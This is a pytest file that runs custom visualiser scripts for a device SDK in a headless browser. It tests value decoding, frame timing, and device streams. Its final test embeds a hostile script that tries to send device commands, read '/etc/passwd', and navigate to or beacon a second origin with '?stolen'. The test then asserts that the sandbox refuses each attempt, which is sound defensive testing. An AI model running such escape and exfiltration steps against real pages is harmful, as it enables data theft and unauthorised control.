"""The JavaScript side of custom visualisers, in a real browser: values, times, and what they cannot do."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from browser_tools import Tab, chromium, elsewhere, tab
from visualisation_tools import device

import cl
import cl._current
from cl._store.packing import pack
from cl.visualisation import create_visualiser
from cl.visualisation.server.server import VisualiserServer


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as found:
        yield found


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[VisualiserServer]:
    monkeypatch.setenv("CL_SDK_RANDOM_SEED", "7")
    with device() as (_, found):
        monkeypatch.setattr(cl._current.devices.environments(), "visualiser", found, raising=False)
        yield found


SHOWN = """async (list) => {
  const { Reader } = await import("/js/msgpack.js");
  const show = (value) => {
    if (ArrayBuffer.isView(value)) return `${value.constructor.name}[${value.join()}]`;
    if (Array.isArray(value)) return `[${value.map(show).join()}]`;
    if (typeof value === "string") return `'${value}'`;
    if (value === null || typeof value !== "object") return Object.is(value, -0) ? "-0" : String(value);
    return `{${Object.entries(value).map(([key, item]) => `${key}:${show(item)}`).join()}}`;
  };
  return list.map((bytes) => {
    try { return show(new Reader(new Uint8Array(bytes)).next()); } catch (error) { return error.name; }
  });
}"""

VALUES: list[tuple[Any, str]] = [
    (None, "null"),
    ([True, False, 0, -1, 127, 128, 255], "[true,false,0,-1,127,128,255]"),
    ([65_535, 65_536, -32, -33, -129, -40_000, 2**31], "[65535,65536,-32,-33,-129,-40000,2147483648]"),
    ([2**53, -(2**53), 1.5], "[9007199254740992,-9007199254740992,1.5]"),
    ([float("nan"), float("inf"), -0.0], "[NaN,Infinity,-0]"),
    (("é😀", "x" * 40, [()]), f"['é😀','{'x' * 40}',[[]]]"),
    ({"a": {"b": [1]}, 3: "three", "__proto__": 1}, "{3:'three',a:{b:[1]},__proto__:1}"),
    (b"\x01\x02", "Uint8Array[1,2]"),
    ([np.float64(2.5), list(range(20))], f"[2.5,[{','.join(map(str, range(20)))}]]"),
    ({"samples": np.arange(3, dtype=np.float32)}, "{samples:Float32Array[0,1,2]}"),
    (np.array([1, -2], np.int8), "Int8Array[1,-2]"),
    (np.array([1, 2], ">u2"), "Uint16Array[1,2]"),
    (np.array([1, -2], np.int64), "BigInt64Array[1,-2]"),
    (np.array([2**63], np.uint64), "BigUint64Array[9223372036854775808]"),
    (np.array([np.nan, 1.5]), "Float64Array[NaN,1.5]"),
    (np.arange(6, dtype=np.int32).reshape(2, 3), "[Int32Array[0,1,2],Int32Array[3,4,5]]"),
    (
        np.arange(8, dtype=np.uint8).reshape(2, 2, 2),
        "[[Uint8Array[0,1],Uint8Array[2,3]],[Uint8Array[4,5],Uint8Array[6,7]]]",
    ),
    (np.zeros((2, 0)), "[Float64Array[],Float64Array[]]"),
    (np.zeros((10**9, 0)), "{nd:true,type:'<f8',kind:Uint8Array[],shape:[1000000000,0],data:Uint8Array[]}"),
    (np.array([True, False]), "{nd:true,type:'|b1',kind:Uint8Array[],shape:[2],data:Uint8Array[1,0]}"),
    (np.int16(5), "{nd:false,type:'<i2',data:Uint8Array[5,0]}"),
    ({"nd": True, "type": "<f4"}, "{nd:true,type:'<f4'}"),
]  # fmt: skip


def test_values_are_what_was_appended(browser: Any, server: VisualiserServer) -> None:
    with tab(browser, server.url) as one:
        found = one.page.evaluate(SHOWN, [list(pack(value)) for value, _ in VALUES])
        for (value, wanted), shown in zip(VALUES, found, strict=True):
            assert shown == wanted, value
        broken = [pack("x" * 99)[:50], pack(list(range(9)))[:4], b"", b"\xc1", pack(np.zeros(9))[:-8]]
        shown = one.page.evaluate(SHOWN, [list(part) for part in broken])
        assert shown == ["RangeError"] * len(broken)


FED = """async () => {
  const { Feed } = await import("/js/feed.js");
  const seen = [];
  const feed = new Feed(["b", "a"]);
  const frame = (ms) => {
    const now = feed.frame(ms, (...entry) => seen.push(entry.join(" ")));
    seen.push(now === null ? "-" : `draw ${ms} ${now}`);
  };
  frame(1000);
  feed.add("other", 1, 0, false, 1000);
  frame(1001);
  feed.add("a", 5000, "x", false, 1002, 40);
  feed.add("b", 5100, "y", false, 1002, 40);
  feed.add("a", 5050, "z", false, 1002, 40);
  frame(1042);
  frame(1044);
  frame(1047);
  feed.reset();
  frame(1050);
  feed.add("a", 7, "old", true, 1060, 40);
  feed.add("a", 8, "old", true, 1060, 40);
  frame(1061);
  feed.add("a", 20_000, "new", false, 1070, 10);
  frame(1080);
  feed.setPace(0, 1082);
  frame(1500);
  feed.setPace(2, 1600);
  frame(1601);
  for (let i = 0; i < 20_001; i++) feed.add("b", 90_000 + i, i, false, 1601);
  seen.push(`${feed.queues.get("b").length} ${feed.dropped}`);
  const standard = new Feed(["a"]);
  standard.add("a", 0, 0, false, 0);
  seen.push(standard.tie.at);
  return seen;
}"""


def test_entries_wait_until_their_time(browser: Any, server: VisualiserServer) -> None:
    with tab(browser, server.url) as one:
        assert one.page.evaluate(FED) == [
            *("-", "-"),  # no draw before the first entry of a stream of its own
            "draw 1042 5000",  # bufferMs after it came, and only what is earlier than the present
            *("a 5000 x", "draw 1044 5050"),
            *("b 5100 y", "a 5050 z", "draw 1047 5125"),  # stream by stream
            "-",  # nor after a reset
            *("a 7 old", "a 8 old", "draw 1061 33"),  # what is older than the page comes at once
            "draw 1080 20000",  # and the present begins with what is of the present
            *("a 20000 new", "draw 1500 20050"),  # a recording that stands still
            "draw 1601 20100",  # and one that is twice as fast
            "10000 10001",
            1000 / 60,
        ]  # fmt: skip


DEVICE_SCRIPT = """
const counts = { cl_spikes: 0, cl_stims: 0 };
let late = 0, falls = false;
function createVisualiser(uniqueId, div) {
  let frames = null;
  return {
    bufferMs: 50,
    reset() { frames = null; },
    process(name, timestamp, data) {
      counts[name]++;
      const { samples } = data;
      if (samples) falls ||= samples.some((uV) => uV < -5);  // Of a small spike none does.
      if (samples) counts.samples = [samples.constructor.name, samples.length, falls];
      if (name === "cl_stims") counts.stim = data;
      if (frames !== null && timestamp < frames) late++;
    },
    draw(ms, now) {
      if (Math.abs(ms - performance.now()) > 5000 || now <= frames) throw new Error(`${ms} ${now}`);
      frames = now;
      div.textContent = JSON.stringify({ ...counts, late, uniqueId, id: div.id, ms, now });
    },
  };
}
"""


def frame_of(one: Tab) -> Any:
    return next(frame for frame in one.page.frames if frame != one.page.main_frame)


def test_the_device_itself_is_a_source(browser: Any, server: VisualiserServer, tmp_path: Path) -> None:
    (tmp_path / "map.js").write_text(DEVICE_SCRIPT)
    text = create_visualiser(tmp_path / "map.js", None, ["cl_spikes", "cl_stims"])
    with cl.open() as neurons, tab(browser, text.split('src="')[1].split('"')[0]) as one:
        div = one.page.locator("#visualiser")
        one.page.wait_for_function("() => counts.cl_spikes > 0", polling=50)
        neurons.stim(cl.ChannelSet(20), 1.0)
        one.page.wait_for_function(
            "() => counts.cl_spikes > 3 && /true.*channel/.test(document.body.innerText)", polling=50
        )
        shown = json.loads(div.inner_text())
        assert shown["samples"] == ["Float32Array", 75, True]
        assert shown["stim"] == {"channel": 20} and shown["cl_stims"] == 1
        assert shown["uniqueId"] == shown["id"] == "visualiser"
        # What the browser says about the sandbox of a page that is no frame is advice to its maker.
        assert [text for text in one.complaints if "sandbox" not in text] == []


EVIL = """
const dataStreams = ["game"];
function createVisualiser(uniqueId, div) {
  div.innerHTML = "<p style='height:777px'>tall</p>";
  const outcome = (promise) => promise.then(() => "reached", () => "refused");
  window.attack = async (other) => {
    const commands = ["stim", "open", "record"].map((type) => JSON.stringify({ type, channel: 3 }));
    const socket = new WebSocket(`ws://${location.host}/ws`);
    const heard = await new Promise((done) => {
      const texts = [];
      socket.onopen = () => commands.forEach((command) => socket.send(command));
      socket.onmessage = ({ data }) => {
        const found = JSON.parse(data);
        if (found.type === "error" && texts.push(found.text) === commands.length) done(texts);
      };
    });
    socket.close();
    const loaded = (object, ready) => new Promise((done, failed) => {
      object[ready] = done;
      object.onerror = failed;
    });
    const image = new Image();
    const beacon = outcome(loaded(image, "onload"));
    image.src = `${other}/a.svg`;
    location.href = `${other}/?stolen`;
    const windows = window.open(`${other}/`);
    let parent = "reached";
    try { window.parent.document.title = "owned"; } catch { parent = "refused"; }
    let top = "reached";
    try { window.top.location.href = other; } catch { top = "refused"; }
    return {
      heard, parent, top, windows: windows === null ? "refused" : "reached",
      file: await outcome(fetch("/../../etc/passwd").then((answer) => { if (!answer.ok) throw 0; })),
      local: await outcome(fetch("file:///etc/passwd")),
      fetch: await outcome(fetch(other, { mode: "no-cors" })),
      beacon: await beacon,
      socket: await outcome(loaded(new WebSocket(other.replace("http", "ws")), "onopen")),
    };
  };
  return {};
}
"""


def test_a_visualiser_cannot_stimulate_read_files_or_reach_another_origin(
    browser: Any, server: VisualiserServer, tmp_path: Path
) -> None:
    (tmp_path / "evil.js").write_text(EVIL)
    (tmp_path / "a.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    text = create_visualiser(tmp_path / "evil.js")
    (tmp_path / "notebook.html").write_text(f"<!doctype html><title>notebook</title>{text}")
    with elsewhere(tmp_path) as url, tab(browser, f"{url}/notebook.html") as one:
        one.page.wait_for_function("() => document.querySelector('iframe').offsetHeight > 777", polling=50)
        frame = frame_of(one)
        found = frame.evaluate("(other) => attack(other)", url)
        assert [text.split(":")[0] for text in found.pop("heard")] == ["unknown type"] * 3
        assert found == dict.fromkeys(found, "refused"), found
        assert frame.url.startswith(server.url) and one.page.title() == "notebook"
        assert one.page.url == f"{url}/notebook.html"
        session = cl._current.devices.environments()
        assert session is not None and not session.engine.history.stims.times
